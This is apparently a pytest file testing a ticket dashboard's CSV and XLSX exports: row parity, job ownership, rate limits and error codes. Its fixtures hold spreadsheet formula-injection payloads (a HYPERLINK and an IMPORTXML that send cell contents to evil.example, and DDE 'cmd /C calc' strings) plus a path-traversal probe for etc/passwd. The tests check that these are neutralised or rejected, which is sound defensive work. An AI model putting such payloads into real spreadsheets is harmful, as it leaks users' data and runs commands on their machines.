"""Ticket and village exports: CSV streamed with the list's rows, XLSX built by a worker process
and fetched by its job id, formulas neutralised, and a clear 4xx for every bad request."""

from __future__ import annotations

import csv
import io
import os
import time

import pytest
from openpyxl import load_workbook
from sqlalchemy import insert, update

from exports.jobs import EXPORT_JOBS_EXTENSION, ExportSettings, JobStore
from store.core.access import Role
from store.core.models import Village
from store.tickets.models import Ticket, TicketEvent
from tests.dash_callback import post_callback
from tests.databases import dashboard, database_url
from tests.signed_in import signed_in_client
from tests.small_db import build_small_database
from tests.small_tickets import TICKETS, D, add_small_tickets

FORMULA_TITLES = {
    7: '=HYPERLINK("http://evil.example/?leak="&A1,"ดูรายละเอียด")',
    8: "+66 81 234 5678",
    9: "-2+3+cmd|' /C calc'!A0",
    10: "@SUM(1+1)*cmd|' /C calc'!A0",
}

FORMULA_VILLAGE = '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")'


def add_formula_tickets(engine) -> None:
    """Titles a volunteer could type that a spreadsheet would run as formulas."""
    with engine.begin() as connection:
        for ticket_id, title in FORMULA_TITLES.items():
            at = D(2019, 1, 10 + ticket_id)
            connection.execute(
                insert(Ticket),
                [
                    {
                        "id": ticket_id,
                        "village_code": "84010101",
                        "subdistrict_code": "840101",
                        "district_code": "8401",
                        "province_code": "84",
                        "reporter_volunteer_id": 1,
                        "category": "other",
                        "title_th": title,
                        "description_th": "ทดสอบ",
                        "agency": "tot",
                        "created_at": at,
                        "status": "not_started",
                        "status_at": at,
                        "closed_at": None,
                    }
                ],
            )
            connection.execute(
                insert(TicketEvent),
                [{"ticket_id": ticket_id, "at": at, "recorded_at": at, "to_status": "not_started",
                  "actor_role": "reporter"}],
            )  # fmt: skip


@pytest.fixture(params=["sqlite", "postgresql"])
def server(request, tmp_path, monkeypatch):
    monkeypatch.setenv("EXPORT_DIR", str(tmp_path / "exports"))
    monkeypatch.setenv("EXPORT_WORKERS", "1")
    with database_url(request.param, tmp_path) as url:
        engine = build_small_database(url)
        add_small_tickets(engine)
        add_formula_tickets(engine)
        with engine.begin() as connection:  # a village named by an import that trusted its source
            connection.execute(update(Village).where(Village.code == "84020101").values(name_en=FORMULA_VILLAGE))
        engine.dispose()
        server = dashboard(url).server
        yield server
        server.extensions[EXPORT_JOBS_EXTENSION].shutdown()


OWNER_ROLE = Role.EXECUTIVE
"""Who asks for the exports here (a job's file is served to its owner only)."""


@pytest.fixture
def client(server):
    return signed_in_client(server, OWNER_ROLE)


def csv_rows(answer) -> list[dict[str, str]]:
    assert answer.status_code == 200, answer.get_data(as_text=True)[:300]
    data = answer.get_data()
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads the file as UTF-8 and shows Thai
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def listed(client, query: str) -> list[dict]:
    answer = client.get(f"/api/v1/tickets?{query}&page_size=500")
    assert answer.status_code == 200
    return answer.json["tickets"]


@pytest.mark.parametrize(
    "query",
    [
        "as_of=2019-02-01",
        "as_of=2019-03-31",
        "province=84&as_of=2019-02-01",
        "district=8401&status=not_started,in_progress&as_of=2019-03-31",
        "since=2019-01-20&until=2019-01-25&as_of=2019-02-01",
        "overdue=true&as_of=2019-02-01",
        "q=เราเตอร์&as_of=2019-03-31",
        "status=none&as_of=2019-03-31",
    ],
)
def test_the_csv_holds_the_lists_rows(client, query):
    """Same rows as the list (count, order, content) for the same area, day and filters."""
    answer = client.get(f"/api/v1/exports/tickets.csv?{query}&lang=en")
    assert answer.is_streamed and answer.mimetype == "text/csv"
    rows, expected = csv_rows(answer), listed(client, query)
    assert [int(row["No."]) for row in rows] == [ticket["id"] for ticket in expected]
    for row, ticket in zip(rows, expected, strict=True):
        assert row["Village (code)"] == ticket["village"]["code"]
        assert row["Province"] == ticket["province"]["name_en"]
        assert row["Reported"] == ticket["created_at"][:16].replace("T", " ")
        assert float(row["Age (days)"]) == ticket["age_days"]
        assert row["Title"].lstrip("'") == ticket["title_th"]


def test_the_csv_is_thai_by_default_and_named_for_its_view(client):
    answer = client.get("/api/v1/exports/tickets.csv?province=84&as_of=2019-02-01")
    assert answer.headers["Content-Disposition"] == "attachment; filename=tickets-84-2019-02-01.csv"
    rows = csv_rows(answer)
    assert list(rows[0])[:3] == ["เลขที่", "วันที่แจ้ง", "สถานะ"]
    assert {row["จังหวัด"] for row in rows} == {"สุราษฎร์ธานี"}


def test_villages_csv_has_each_village_with_its_open_tickets(client):
    rows = csv_rows(client.get("/api/v1/exports/villages.csv?province=84&as_of=2019-03-31"))
    assert {row["code"] for row in rows} == {"84010101", "84010102", "84020101"}
    open_tickets = {row["code"]: int(row["open_tickets"]) for row in rows}
    assert open_tickets["84010101"] == len(
        [t for t in listed(client, "village=84010101&status=not_started,in_progress&as_of=2019-03-31")]
    )
    assert "volunteer_name" not in rows[0] and "phone" not in " ".join(rows[0])


def test_formulas_are_neutralised_in_csv_and_xlsx(client):
    rows = csv_rows(client.get("/api/v1/exports/tickets.csv?as_of=2019-03-31&lang=en"))
    titles = {int(row["No."]): row["Title"] for row in rows}
    for ticket_id, title in FORMULA_TITLES.items():
        assert titles[ticket_id] == "'" + title  # shown as the text it is, never run
    assert titles[1] == TICKETS[0][3]  # other text untouched
    workbook = finished_workbook(client, "/api/v1/exports/tickets.xlsx?as_of=2019-03-31&lang=en")
    sheet = workbook.active
    header = [cell.value for cell in sheet[1]]
    cells = {row[0].value: row[header.index("Title")] for row in sheet.iter_rows(min_row=2)}
    for ticket_id, title in FORMULA_TITLES.items():
        assert cells[ticket_id].value == "'" + title and cells[ticket_id].data_type == "s"


@pytest.mark.parametrize("path", ["/api/v1/villages?format=csv", "/api/v1/exports/villages.csv?lang=en"])
def test_village_names_are_neutralised_too(client, path):
    names = {row["code"]: row["name_en"] for row in csv_rows(client.get(path))}
    assert names["84020101"] == "'" + FORMULA_VILLAGE
    assert names["84010101"] == "Ban Nong Bua"


def finished_job(client, url: str) -> dict:
    started = client.post(url)
    assert started.status_code == 202, started.get_data(as_text=True)
    job = started.json
    assert started.headers["Location"].endswith(job["status_url"])
    assert "owner" not in job and len(job["id"]) == 32
    deadline = time.monotonic() + 120
    while job["state"] not in ("done", "failed"):
        assert time.monotonic() < deadline, job
        time.sleep(0.2)
        job = client.get(job["status_url"]).json
    assert job["state"] == "done", job
    assert job["progress"] == 1.0 and job["rows_done"] == job["rows_total"]
    return job


def finished_workbook(client, url: str):
    job = finished_job(client, url)
    answer = client.get(job["file_url"])
    assert answer.status_code == 200 and answer.mimetype.endswith("spreadsheetml.sheet")
    assert answer.headers["Content-Disposition"].startswith("attachment; filename=")
    return load_workbook(io.BytesIO(answer.get_data()), read_only=False)


def test_xlsx_job_gives_the_same_rows_as_the_csv(client):
    query = "province=84&as_of=2019-03-31&lang=en"
    rows = csv_rows(client.get(f"/api/v1/exports/tickets.csv?{query}"))
    sheet = finished_workbook(client, f"/api/v1/exports/tickets.xlsx?{query}").active
    values = list(sheet.iter_rows(values_only=True))
    assert list(values[0]) == list(rows[0])
    assert len(values) - 1 == len(rows)
    for cells, row in zip(values[1:], rows, strict=True):
        assert [same_cell(cell, text) for cell, text in zip(cells, row.values(), strict=True)] == [True] * len(cells)


def same_cell(cell: object, text: str) -> bool:
    """An XLSX cell and the CSV's text of it: numbers as numbers (XLSX keeps 1.0 as 1), else text."""
    if isinstance(cell, int | float):
        return float(cell) == float(text)
    return ("" if cell is None else str(cell)) == text


def test_villages_xlsx(client):
    sheet = finished_workbook(client, "/api/v1/exports/villages.xlsx?as_of=2019-02-01").active
    assert sheet.max_row == 1 + 4  # the header and the four villages


@pytest.mark.parametrize(
    ("method", "path", "status"),
    [
        ("get", "/api/v1/exports/jobs/nope", 404),
        ("get", "/api/v1/exports/jobs/..%2F..%2Fetc%2Fpasswd", 404),
        ("get", "/api/v1/exports/jobs/" + "A" * 32, 404),
        ("get", "/api/v1/exports/jobs/" + "A" * 32 + "/file", 404),
        ("get", "/api/v1/exports/jobs/" + "x" * 5000, 404),
        ("get", "/api/v1/exports/jobs/%00%C2%B2/file", 404),
        ("get", "/api/v1/exports/tickets.csv?stauts=done", 400),
        ("get", "/api/v1/exports/tickets.csv?lang=fr", 400),
        ("get", "/api/v1/exports/tickets.csv?status=closed", 400),
        ("get", "/api/v1/exports/tickets.csv?as_of=2562-02-01", 400),
        ("get", "/api/v1/exports/tickets.csv?since=0001-01-01", 400),
        ("get", "/api/v1/exports/tickets.csv?province=99", 404),
        ("get", "/api/v1/exports/tickets.csv?province=%C2%B2%C2%B2", 400),
        ("get", "/api/v1/exports/villages.csv?status=done", 400),
        ("get", "/api/v1/exports/showcase.csv", 404),
        ("post", "/api/v1/exports/showcase.xlsx", 404),
        ("post", "/api/v1/exports/tickets.xlsx?q=x&page=2", 400),
        ("post", "/api/v1/exports/tickets.csv", 405),
        ("get", "/api/v1/exports/tickets.xlsx", 405),
        ("delete", "/api/v1/exports/jobs/" + "A" * 32, 405),
    ],
)
def test_bad_requests_get_a_json_4xx(client, method, path, status):
    answer = getattr(client, method)(path)
    assert answer.status_code == status, answer.get_data(as_text=True)[:300]
    assert answer.json["error"]["status"] == status


def test_a_job_is_served_only_to_its_owner_and_only_when_ready(server, client):
    store = JobStore(server.extensions[EXPORT_JOBS_EXTENSION].settings.directory)
    someone_elses = store.new("person:officer@example.go.th", "tickets-TH-2019-02-01.xlsx")
    assert client.get(f"/api/v1/exports/jobs/{someone_elses.id}").status_code == 404
    assert client.get(f"/api/v1/exports/jobs/{someone_elses.id}/file").status_code == 404
    queued = store.new(f"person:{OWNER_ROLE.value}@test.invalid", "tickets-TH-2019-02-01.xlsx")
    assert client.get(f"/api/v1/exports/jobs/{queued.id}").json["state"] == "queued"
    answer = client.get(f"/api/v1/exports/jobs/{queued.id}/file")
    assert answer.status_code == 409 and "not ready" in answer.json["error"]["message"]


def test_old_jobs_and_files_are_removed(server, client):
    directory = server.extensions[EXPORT_JOBS_EXTENSION].settings.directory
    job = finished_job(client, "/api/v1/exports/villages.xlsx?as_of=2019-02-01")
    two_hours_ago = time.time() - 7200
    for path in directory.glob(f"{job['id']}*"):
        os.utime(path, (two_hours_ago, two_hours_ago))
    finished_job(client, "/api/v1/exports/villages.xlsx?as_of=2019-02-01")  # a new job sweeps the folder
    assert not list(directory.glob(f"{job['id']}*"))
    assert client.get(job["status_url"]).status_code == 404


def test_streams_beyond_the_limit_get_429_until_one_ends(client):
    held = [client.get("/api/v1/exports/tickets.csv", buffered=False) for _ in range(2)]  # EXPORT_STREAMS=2
    refused = client.get("/api/v1/exports/tickets.csv")
    assert refused.status_code == 429 and int(refused.headers["Retry-After"]) > 0
    assert "try again" in refused.json["error"]["message"]
    held[1].close()  # the test client keeps each open stream's request context: closed last-in first-out
    assert client.get("/api/v1/exports/tickets.csv").status_code == 200
    held[0].close()


@pytest.mark.parametrize("name", ["EXPORT_WORKERS", "EXPORT_STREAMS", "EXPORT_QUEUE", "EXPORT_KEEP_MINUTES"])
@pytest.mark.parametrize("value", ["-1", "two", "²", "100000"])
def test_bad_settings_stop_the_start_with_one_line(name, value):
    with pytest.raises(SystemExit, match=name):
        ExportSettings.from_environ({name: value})


def test_the_ticket_tables_csv_link_gives_the_rows_of_its_grid(client):
    """The page's link carries its area, day, language and filters: the file is what the grid shows."""
    search = "?area=8401&lang=en&as_of=2019-03-31"
    filters = [("tickets-status", "value", ["not_started", "in_progress"]), ("tickets-category", "value", None),
               ("tickets-dates", "start_date", None), ("tickets-dates", "end_date", None),
               ("tickets-text", "value", None), ("tickets-overdue", "value", False)]  # fmt: skip
    status, link = post_callback(
        client, [("tickets-export-csv", "href")], [("url", "search", search), *filters], prefix="/tickets/"
    )
    assert status == 200
    href = link["response"]["tickets-export-csv"]["href"]
    status, grid = post_callback(
        client,
        [("tickets-grid", "getRowsResponse")],
        [("tickets-grid", "getRowsRequest", {"startRow": 0, "endRow": 100})],
        (*filters, ("url", "search", search)),
        prefix="/tickets/",
    )
    grid_ids = [row["id"] for row in grid["response"]["tickets-grid"]["getRowsResponse"]["rowData"]]
    assert [int(row["No."]) for row in csv_rows(client.get(href))] == grid_ids
    assert grid_ids and len(grid_ids) < len(listed(client, "as_of=2019-03-31"))
